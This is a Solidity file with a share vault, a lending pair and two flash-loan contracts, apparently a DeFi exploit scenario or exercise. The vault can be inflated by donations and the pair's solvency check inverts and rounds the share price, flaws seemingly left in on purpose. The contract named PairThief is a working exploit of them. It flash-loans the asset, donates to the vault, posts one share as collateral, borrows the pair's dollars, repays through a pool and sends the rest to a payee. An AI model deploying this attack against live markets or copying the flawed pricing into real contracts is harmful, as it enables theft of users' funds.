// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower, Pool} from "../props/Markets.sol";
import {Token} from "../props/Tokens.sol";

/// Lends out what is deposited and gives shares for it; whoever sends it tokens makes every share dearer.
contract LendVault is Token {
    Token public immutable asset;

    event Deposit(address indexed sender, address indexed owner, uint256 assets, uint256 shares);
    event Withdraw(address indexed sender, address indexed receiver, address indexed owner, uint256 assets, uint256 shares);

    constructor(Token asset_) Token("cvcrvUSD", 18) {
        asset = asset_;
    }

    function deposit(uint256 assets, address to) external returns (uint256 shares) {
        shares = totalSupply == 0 ? assets : assets * totalSupply / totalAssets();
        require(shares > 0, "no shares");
        asset.transferFrom(msg.sender, address(this), assets);
        _mint(to, shares);
        emit Deposit(msg.sender, to, assets, shares);
    }

    function redeem(uint256 shares, address to) external returns (uint256 assets) {
        assets = shares * totalAssets() / totalSupply;
        _burn(msg.sender, shares);
        asset.transfer(to, assets);
        emit Withdraw(msg.sender, to, msg.sender, assets, shares);
    }

    function totalAssets() public view returns (uint256) {
        return asset.balanceOf(address(this));
    }

    function convertToAssets(uint256 shares) external view returns (uint256) {
        return totalSupply == 0 ? shares : shares * totalAssets() / totalSupply;
    }
}

/// Lends its own dollar against shares of a vault. A share's price is turned upside down and rounded.
contract LendPair {
    LendVault public immutable collateral;
    Token public immutable dollar;
    uint256 public constant LTV_MAX = 95_000; // of 100,000
    mapping(address => uint256) public collateralOf;
    mapping(address => uint256) public debtOf;
    uint256 public exchangeRate;

    event UpdateExchangeRate(uint256 rate);
    event AddCollateral(address indexed borrower, uint256 amount);
    event RemoveCollateral(address indexed borrower, uint256 amount);
    event Borrow(address indexed borrower, uint256 amount);
    event Repay(address indexed borrower, uint256 amount);

    constructor(LendVault collateral_, Token dollar_) {
        (collateral, dollar) = (collateral_, dollar_);
    }

    function addCollateral(uint256 amount) external {
        collateral.transferFrom(msg.sender, address(this), amount);
        collateralOf[msg.sender] += amount;
        emit AddCollateral(msg.sender, amount);
    }

    function removeCollateral(uint256 amount) external {
        collateralOf[msg.sender] -= amount;
        solvent(msg.sender);
        collateral.transfer(msg.sender, amount);
        emit RemoveCollateral(msg.sender, amount);
    }

    function borrow(uint256 amount) external {
        debtOf[msg.sender] += amount;
        solvent(msg.sender);
        dollar.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        dollar.transferFrom(msg.sender, address(this), amount);
        debtOf[msg.sender] -= amount;
        emit Repay(msg.sender, amount);
    }

    function solvent(address borrower) private {
        exchangeRate = 1e36 / collateral.convertToAssets(1e18);
        emit UpdateExchangeRate(exchangeRate);
        if (debtOf[borrower] == 0) return;
        uint256 ltv = debtOf[borrower] * exchangeRate / 1e18 * 100_000 / collateralOf[borrower];
        require(ltv <= LTV_MAX, "insolvent");
    }
}

/// Gives the vault a little, so that one base unit of its shares looks priceless.
contract PairThief {
    function run(FlashLender lender, LendPair pair, Pool pool, uint256 gift, uint256 loan, address payee) external {
        if (pair.collateralOf(address(this)) == 0) {
            Token asset = pair.collateral().asset();
            lender.flashLoan(IBorrower(address(this)), asset, gift + 10, abi.encode(pair, pool, gift, loan));
        } else {
            pair.borrow(loan);
        }
        Token dollar = pair.dollar();
        dollar.transfer(payee, dollar.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token asset, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        (LendPair pair, Pool pool, uint256 gift, uint256 loan) =
            abi.decode(data, (LendPair, Pool, uint256, uint256));
        LendVault vault = pair.collateral();
        asset.transfer(address(vault), gift);
        asset.approve(address(vault), 1);
        vault.deposit(1, address(this));
        vault.approve(address(pair), 1);
        pair.addCollateral(1);
        pair.borrow(loan);
        pair.dollar().approve(address(pool), loan);
        pool.sell(pair.dollar(), gift * 12 / 10, address(this));
        asset.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

/// Levers a position up: borrowed dollars of the vault's kind go in, dollars of the pair's kind are borrowed on them and
/// sold to pay the loan back.
contract PairLever {
    address private immutable owner = msg.sender;

    function open(FlashLender lender, LendPair pair, Pool pool, uint256 own, uint256 loan) external {
        require(msg.sender == owner, "not the owner");
        Token asset = pair.collateral().asset();
        asset.transferFrom(owner, address(this), own);
        lender.flashLoan(IBorrower(address(this)), asset, loan, abi.encode(pair, pool));
        asset.transfer(owner, asset.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token asset, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        (LendPair pair, Pool pool) = abi.decode(data, (LendPair, Pool));
        LendVault vault = pair.collateral();
        uint256 all = asset.balanceOf(address(this));
        asset.approve(address(vault), all);
        uint256 shares = vault.deposit(all, address(this));
        vault.approve(address(pair), shares);
        pair.addCollateral(shares);
        uint256 loan = amount * 11 / 10;
        pair.borrow(loan);
        pair.dollar().approve(address(pool), loan);
        pool.sell(pair.dollar(), loan, address(this));
        asset.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
